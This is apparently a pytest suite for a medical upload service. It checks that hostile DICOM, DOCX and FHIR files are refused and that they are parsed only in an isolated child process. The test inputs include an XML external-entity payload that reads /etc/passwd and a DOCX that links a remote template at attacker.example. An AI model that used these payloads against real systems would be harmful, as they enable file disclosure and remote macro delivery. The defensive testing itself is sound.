"""Hostile DICOM and DOCX files (issue #23): their parts are counted before anything parses
them, and every parse of an upload (its header check) or of a stored image (a pilot's
pictures) runs in a reading child, never in the process serving the request."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pydicom
import pydicom.filereader
import pytest

from benchmarks import hostile_files as make
from core.analysis.reading import imaging
from core.analysis.reading.isolation import IsolatedReading, ReadingLimits
from core.errors import InvalidInput
from core.file_parts import (
    MAX_DICOM_ELEMENTS,
    MAX_DOCX_ENTRIES,
    TooManyParts,
    check_parts,
    dicom_elements,
    zip_directory,
)
from core.models import NewCase, Upload
from core.services.pilots import PilotService
from tests import hostile_readers, samples
from tests.contract.harness import LocalHarness, SignedIn
from tests.doubles import case_service, finish_analysis

MB = 1024 * 1024
FORM = NewCase(patient_name="Ada Quist", patient_age=58, patient_gender="female")


def _no_parsing_here(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any DICOM or zip parse in this process fails the test (a child is unaffected)."""

    def parsed(*_: object, **__: object) -> None:
        raise AssertionError("a file was parsed in the request's process")

    for module, name in ((pydicom, "dcmread"), (pydicom.filereader, "dcmread")):
        monkeypatch.setattr(module, name, parsed)
    monkeypatch.setattr(pydicom.filereader, "read_partial", parsed)
    monkeypatch.setattr(zipfile.ZipFile, "__init__", parsed)


@pytest.fixture
def harness(tmp_path: Path) -> LocalHarness:
    return LocalHarness(tmp_path / "data")


@pytest.fixture
def signed_in(harness: LocalHarness) -> SignedIn:
    return harness.sign_up()


def test_a_dicom_of_too_many_header_elements_is_refused_before_any_parse(
    tmp_path: Path, harness: LocalHarness, signed_in: SignedIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = make.dicom_many_elements(tmp_path / "scan.dcm", MAX_DICOM_ELEMENTS + 10)
    _no_parsing_here(monkeypatch)
    services = case_service(signed_in.doctor, signed_in.backend)
    with hostile.open("rb") as stream, pytest.raises(TooManyParts, match="header elements"):
        services.create_case(FORM, [Upload("scan.dcm", stream, "radiology")])
    assert services.list_cases() == []
    assert harness.stored_keys() == set()


def test_a_docx_of_too_many_entries_is_refused_from_its_end_record(
    tmp_path: Path, signed_in: SignedIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = make.docx_many_entries(tmp_path / "bloods.docx", MAX_DOCX_ENTRIES + 1)
    _no_parsing_here(monkeypatch)
    services = case_service(signed_in.doctor, signed_in.backend)
    upload = Upload("bloods.docx", hostile.read_bytes(), "lab")
    with pytest.raises(TooManyParts, match="parts, more than the 2,000"):
        services.create_case(FORM, [upload])
    assert services.list_cases() == []


def test_the_counts_of_real_files_are_far_under_the_limits(tmp_path: Path) -> None:
    for name in ("CT_small.dcm", "MR_small_implicit.dcm", "MR_small_bigendian.dcm", "rtplan.dcm"):
        count = dicom_elements(io.BytesIO(samples.dicom_bytes(name)))
        assert 0 < count < 500, name
    check_parts("docx", samples.docx_with_table_bytes(), "bloods.docx")
    # Nested sequences are counted too: a hostile header cannot hide inside one.
    assert dicom_elements(io.BytesIO(samples.dicom_bytes("rtplan.dcm"))) > 100


def test_a_zip64_end_record_is_read_for_the_count(tmp_path: Path) -> None:
    # Past 65,535 entries a zip's count lives in its ZIP64 end record only.
    path = make.docx_many_entries(tmp_path / "zip64.docx", 70_000)
    with path.open("rb") as stream:
        assert zip_directory(stream, path.stat().st_size) == (70_000, 3_500_128)
    with pytest.raises(TooManyParts, match="70,000 parts"):
        check_parts("docx", path.read_bytes(), "zip64.docx")


def test_the_header_check_parses_in_a_child_and_accepts_good_files(
    tmp_path: Path, signed_in: SignedIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    not_word = io.BytesIO()  # a zip, but not a Word document: the child must say so
    with zipfile.ZipFile(not_word, "w") as archive:
        archive.writestr("other.xml", "<x/>")
    few = make.dicom_many_elements(tmp_path / "few.dcm", 1000).read_bytes()
    word = samples.docx_with_table_bytes()
    _no_parsing_here(monkeypatch)
    reading = IsolatedReading(ReadingLimits(seconds=60))
    services = case_service(signed_in.doctor, signed_in.backend, reading=reading)
    created = services.create_case(
        FORM,
        [
            # A stream (the API's spooled part) goes to the child a piece at a time.
            Upload("scan.dcm", io.BytesIO(samples.dicom_bytes()), "radiology"),
            Upload("few.dcm", few, "radiology"),
            Upload("bloods.docx", word, "lab"),
        ],
    )
    assert len(created.files) == 3
    with pytest.raises(InvalidInput, match="not a valid Word document"):
        services.create_case(FORM, [Upload("bloods.docx", not_word.getvalue(), "lab")])


def test_a_header_check_over_the_childs_memory_is_a_clear_refusal_and_stores_nothing(
    harness: LocalHarness, signed_in: SignedIn
) -> None:
    reading = IsolatedReading(
        ReadingLimits(seconds=60, memory_bytes=128 * MB), headers_reader=hostile_readers.eats_memory
    )
    services = case_service(signed_in.doctor, signed_in.backend, reading=reading)
    with pytest.raises(InvalidInput, match="could not be checked: reading it needed more than 128"):
        services.create_case(
            FORM,
            [
                Upload("bloods.txt", b"Glucose 182 mg/dL", "lab"),
                Upload("scan.dcm", samples.dicom_bytes(), "radiology"),
            ],
        )
    assert services.list_cases() == []
    assert harness.stored_keys() == set()


def test_a_stored_hostile_dicom_is_refused_by_count_in_the_reading_child(tmp_path: Path) -> None:
    hostile = make.dicom_many_elements(tmp_path / "scan.dcm", MAX_DICOM_ELEMENTS + 10)
    reading = IsolatedReading(ReadingLimits(seconds=60))
    with pytest.raises(imaging.UnreadableImage, match="more than 50,000 header elements"):
        reading.thumbnail("f", "This image", "scan.dcm", hostile.read_bytes)


def test_pilot_enrolment_decodes_its_pictures_in_a_child(
    tmp_path: Path, signed_in: SignedIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    services = case_service(signed_in.doctor, signed_in.backend)
    created = services.create_case(FORM, [Upload("chest.png", samples.png_bytes(), "radiology")])
    case_id = created.case.case_id
    finish_analysis(signed_in.backend, signed_in.doctor.user_id, case_id)

    def decoded_here(*_: object, **__: object) -> None:
        raise AssertionError("an image was decoded in the enrolling request's process")

    monkeypatch.setattr(imaging, "_render", decoded_here)
    pilots = PilotService(
        signed_in.doctor, signed_in.backend, IsolatedReading(ReadingLimits(seconds=60))
    )
    pilot = pilots.create_pilot("Chest pilot", "", "2026-11-01", "2027-01-31")
    (enrolment,) = pilots.enrol(pilot.pilot_id, [case_id])
    (image,) = pilots.enrolled_case(enrolment.enrolment_id).view.images
    assert image.png  # made in the child, which the patch above does not reach


def test_a_lab_message_is_read_in_a_child_at_upload_and_refused_with_its_readers_reason(
    harness: LocalHarness, signed_in: SignedIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Round fourteen: a FHIR XML file with an external entity and one cut off mid-element
    # were accepted (their first bytes are right) and found unreadable only by the
    # analysis. Now each message is read whole at upload, in a reading child.
    from core.analysis.reading import messages_fhir_xml

    def parsed(*_: object, **__: object) -> None:
        raise AssertionError("a message was parsed in the request's process")

    monkeypatch.setattr(messages_fhir_xml.etree, "fromstring", parsed)
    entity = (
        b'<?xml version="1.0"?>\n<!DOCTYPE Observation [<!ENTITY who SYSTEM "file:///etc/'
        b'passwd">]>\n<Observation xmlns="http://hl7.org/fhir"><status value="final"/>'
        b'<code><text value="&who;"/></code></Observation>\n'
    )
    cut = b'<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text val'
    reading = IsolatedReading(ReadingLimits(seconds=60))
    services = case_service(signed_in.doctor, signed_in.backend, reading=reading)
    for content, reason in (
        (entity, "the XML declares a DOCTYPE or entities, which FHIR never does"),
        (cut, "the file is not well-formed XML (line 1)"),
    ):
        with pytest.raises(InvalidInput) as refused:
            services.create_case(FORM, [Upload("potassium.xml", content, "lab")])
        assert refused.value.detail == f"'potassium.xml' is not a valid FHIR XML resource: {reason}"
    assert services.list_cases() == []
    assert harness.stored_keys() == set()
    good = cut + b'ue="Potassium"/></code></Observation>'
    created = services.create_case(FORM, [Upload("potassium.xml", good, "lab")])
    assert [f.file_name for f in created.files] == ["potassium.xml"]


def test_a_fhir_json_that_repeats_a_key_is_refused_at_upload_naming_it(
    harness: LocalHarness, signed_in: SignedIn
) -> None:
    """left16: HL7's example Observation with its glucose's "value" twice (6.3, then 63):
    which one counts is the parser's choice. Refused at upload, the key named, nothing kept."""
    real = (
        Path(__file__).resolve().parents[1] / "structured" / "fhir_f001_glucose.json"
    ).read_text()
    twice = real.replace('"value": 6.3,', '"value": 6.3,\n    "value": 63,').encode()
    reading = IsolatedReading(ReadingLimits(seconds=60))
    services = case_service(signed_in.doctor, signed_in.backend, reading=reading)
    with pytest.raises(InvalidInput) as refused:
        services.create_case(FORM, [Upload("glucose.json", twice, "lab")])
    assert refused.value.detail == (
        "'glucose.json' is not a valid FHIR JSON resource: the file repeats the key 'value' "
        "in one object"
    )
    assert services.list_cases() == []
    assert harness.stored_keys() == set()


def test_a_docx_with_a_remote_template_is_refused_at_upload_in_the_child(
    harness: LocalHarness, signed_in: SignedIn
) -> None:
    """left16: a DOCX whose settings attach a template from another address (Word fetches
    it on opening, macros and all) is refused when the header check reads it, in a child."""
    from core.docx_parts import EXTERNAL

    content = samples.docx_with_parts(
        added=samples.docx_settings_linking("attachedTemplate", "https://attacker.example/t.dotm")
    )
    services = case_service(
        signed_in.doctor, signed_in.backend, reading=IsolatedReading(ReadingLimits(seconds=60))
    )
    with pytest.raises(InvalidInput) as refused:
        services.create_case(FORM, [Upload("report.docx", content, "lab")])
    assert refused.value.detail == f"'report.docx' is not a valid Word document: {EXTERNAL}"
    assert services.list_cases() == []
    assert harness.stored_keys() == set()
